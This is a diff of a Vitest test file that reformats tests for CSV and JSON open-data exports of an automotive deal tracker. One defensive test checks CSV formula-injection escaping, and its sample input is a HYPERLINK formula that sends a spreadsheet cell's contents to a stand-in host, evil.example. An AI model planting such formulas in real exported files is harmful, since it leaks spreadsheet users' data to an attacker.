@@ -1,6 +1,15 @@
 import { describe, expect, it } from 'vitest';
 import { dealHistory, currentStep } from '../../src/lib/deals.ts';
-import { articlesJson, csvField, dealsJson, entitiesJson, EVENT_COLUMNS, eventsCsv, toCsv, type OpenDataInput } from '../../src/lib/open-data.ts';
+import {
+  articlesJson,
+  csvField,
+  dealsJson,
+  entitiesJson,
+  EVENT_COLUMNS,
+  eventsCsv,
+  toCsv,
+  type OpenDataInput,
+} from '../../src/lib/open-data.ts';
 import { articleSchema, dealSchema, entitySchema } from '../../src/schemas/index.ts';
 
 const SITE = 'https://tracker.example';
@@ -39,7 +48,12 @@ const articles = [
   },
 ];
 
-const dealData = dealSchema.parse({ title: 'KAMAZ and JAC', parties: ['kamaz', 'jac'], storyline: 'revival', summary: 'Building the car.' });
+const dealData = dealSchema.parse({
+  title: 'KAMAZ and JAC',
+  parties: ['kamaz', 'jac'],
+  storyline: 'revival',
+  summary: 'Building the car.',
+});
 const history = dealHistory('kamaz-jac', articles);
 const input: OpenDataInput = {
   articles,
@@ -68,8 +82,11 @@ describe('CSV (RFC 4180)', () => {
   });
 
   it('neutralises text a spreadsheet would run as a formula, with a leading apostrophe (OWASP)', () => {
-    expect(csvField('=HYPERLINK("http://evil.example/?d="&A1,"Click me")')).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"`);
-    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvField(`${start}1+1`).startsWith(`'${start}`) || csvField(`${start}1+1`).startsWith(`"'${start}`)).toBe(true);
+    expect(csvField('=HYPERLINK("http://evil.example/?d="&A1,"Click me")')).toBe(
+      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"`,
+    );
+    for (const start of ['+', '-', '@', '\t', '\r'])
+      expect(csvField(`${start}1+1`).startsWith(`'${start}`) || csvField(`${start}1+1`).startsWith(`"'${start}`)).toBe(true);
     expect(csvField('KAMAZ = truck maker')).toBe('KAMAZ = truck maker');
   });
 
@@ -93,7 +110,9 @@ describe('events.csv', () => {
     expect(lines[1]).toBe(
       'plant-sold,2022-05,month,"Renault sells the plant, ""for one rouble"", to the city.",kamaz,talks,https://tracker.example/articles/talks/#event-plant-sold',
     );
-    expect(lines[2]).toBe('talks-begin,2022-05-19,day,Talks begin,kamaz jac,talks,https://tracker.example/articles/talks/#event-talks-begin');
+    expect(lines[2]).toBe(
+      'talks-begin,2022-05-19,day,Talks begin,kamaz jac,talks,https://tracker.example/articles/talks/#event-talks-begin',
+    );
     expect(lines[3]).toContain('zil-talks,2005,year,');
   });
 });
@@ -117,7 +136,13 @@ describe('JSON exports', () => {
   it('entities.json: every entity with the articles naming it, and nulls for absent fields', () => {
     const json = JSON.parse(entitiesJson(input));
     expect(json.count).toBe(2);
-    expect(json.entities[0]).toMatchObject({ id: 'jac', url: 'https://tracker.example/entities/jac/', aliases: ['Jianghuai'], country: null, articles: ['talks', 'zil'] });
+    expect(json.entities[0]).toMatchObject({
+      id: 'jac',
+      url: 'https://tracker.example/entities/jac/',
+      aliases: ['Jianghuai'],
+      country: null,
+      articles: ['talks', 'zil'],
+    });
     expect(json.entities[1]).toMatchObject({ id: 'kamaz', country: 'RU', role: null, articles: ['talks'] });
   });
 
